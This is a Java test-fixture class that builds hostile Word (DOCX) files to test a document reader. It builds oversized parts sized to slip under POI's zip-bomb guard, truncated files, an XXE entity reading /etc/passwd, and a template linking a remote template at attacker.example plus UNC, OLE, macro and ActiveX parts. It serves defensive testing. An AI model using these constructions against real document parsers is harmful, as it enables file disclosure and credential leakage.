package org.gongwen.testing;

import org.gongwen.ooxml.DocxPackage;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** DOCX packages built to hurt a reader: too large unpacked, cut short, or carrying what a template may not. */
public final class HostileDocx {
    private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private HostileDocx() {}

    /** A bundled template's bytes (templates/NAME.docx). */
    public static byte[] template(String name) {
        try {
            return Files.readAllBytes(Path.of("templates", name + ".docx"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A small Word document followed by {@code count} parts of {@code bytesEach} bytes of numbered
     * paragraphs, which deflate about 30:1 (under POI's 100:1 zip-bomb guard, as in the review).
     * The entries' local headers claim no size: Java writes sizes after the data.
     */
    public static byte[] largeParts(int count, long bytesEach) {
        return largeParts(count, bytesEach, "xml");
    }

    /**
     * As {@link #largeParts(int, long)}, with parts of the given extension: "png" makes pictures
     * (declared image/png), which are held, not parsed.
     */
    public static byte[] largeParts(int count, long bytesEach, String extension) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            put(zip, "[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                    + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                    + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                    + "<Default Extension=\"png\" ContentType=\"image/png\"/>"
                    + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
            put(zip, "_rels/.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                    + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                    + "<Relationship Id=\"rId1\" Type=\"" + REL + "officeDocument\" Target=\"word/document.xml\"/></Relationships>");
            put(zip, "word/document.xml", "<w:document xmlns:w=\"" + W + "\"><w:body>"
                    + "<w:p><w:r><w:t>关于开展安全检查的通知</w:t></w:r></w:p></w:body></w:document>");
            for (int part = 1; part <= count; part++) {
                zip.putNextEntry(new ZipEntry(extension.equals("xml") ? "customXml/item" + part + ".xml" : "word/media/image" + part + "." + extension));
                long written = 0;
                for (int i = 0; written < bytesEach; i++) {
                    byte[] p = ("<w:p><w:r><w:t>第" + i + "段：各单位要认真做好安全检查工作。</w:t></w:r></w:p>").getBytes(StandardCharsets.UTF_8);
                    int n = (int) Math.min(p.length, bytesEach - written);
                    zip.write(p, 0, n);
                    written += n;
                }
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** The first {@code length} bytes of {@code docx}: a download or upload cut short. */
    public static byte[] cut(byte[] docx, int length) {
        return Arrays.copyOf(docx, length);
    }

    /** {@code docx} with one part's XML edited (the edit must change it). */
    public static byte[] edited(byte[] docx, String part, UnaryOperator<String> edit) {
        LinkedHashMap<String, byte[]> parts = DocxPackage.read(docx).mutableCopy();
        String xml = new String(parts.get(part), StandardCharsets.UTF_8);
        String changed = edit.apply(xml);
        if (changed.equals(xml)) throw new IllegalArgumentException("the edit does not change " + part);
        parts.put(part, changed.getBytes(StandardCharsets.UTF_8));
        return DocxPackage.zip(parts);
    }

    /** {@code docx} with a DTD declared in {@code part} (which starts with an XML declaration). */
    public static byte[] withDoctype(byte[] docx, String part) {
        return edited(docx, part, x -> x.replaceFirst("\\?>", "?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"));
    }

    /**
     * The report template carrying all a template may not: an attached template on a web server and
     * a picture on a UNC path (external relationships), an OLE object linked to a local file, macros
     * (vbaProject.bin), an ActiveX control, an embedded OLE object and an embedded workbook.
     */
    public static byte[] hostileTemplate() {
        LinkedHashMap<String, byte[]> parts = DocxPackage.read(template("report")).mutableCopy();
        edit(parts, "[Content_Types].xml", x -> x.replace("</Types>",
                "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>"
                        + "<Default Extension=\"xlsx\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\"/>"
                        + "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                        + "<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/></Types>"));
        edit(parts, "word/_rels/document.xml.rels", x -> x.replace("</Relationships>",
                rel("rId90", "image", "\\\\server\\share\\x.png", true)
                        + rel("rId91", "oleObject", "file:///etc/passwd", true)
                        + rel("rId92", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", false)
                        + rel("rId93", "control", "activeX/activeX1.xml", false)
                        + rel("rId94", "oleObject", "embeddings/oleObject1.bin", false)
                        + rel("rId95", "package", "embeddings/Microsoft_Excel_Worksheet.xlsx", false)
                        + "</Relationships>"));
        parts.put("word/_rels/settings.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + rel("rId1", "attachedTemplate", "http://attacker.example/normal.dotm", true) + "</Relationships>")
                .getBytes(StandardCharsets.UTF_8));
        parts.put("word/vbaProject.bin", new byte[]{(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
        parts.put("word/activeX/activeX1.xml", ("<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\""
                + " ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>").getBytes(StandardCharsets.UTF_8));
        parts.put("word/embeddings/oleObject1.bin", new byte[]{(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
        parts.put("word/embeddings/Microsoft_Excel_Worksheet.xlsx", new byte[]{'P', 'K', 5, 6});
        return DocxPackage.zip(parts);
    }

    private static String rel(String id, String type, String target, boolean external) {
        return "<Relationship Id=\"" + id + "\" Type=\"" + (type.startsWith("http") ? type : REL + type) + "\" Target=\""
                + target + "\"" + (external ? " TargetMode=\"External\"" : "") + "/>";
    }

    private static void edit(Map<String, byte[]> parts, String part, UnaryOperator<String> edit) {
        parts.put(part, edit.apply(new String(parts.get(part), StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
    }

    private static void put(ZipOutputStream zip, String name, String text) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }
}
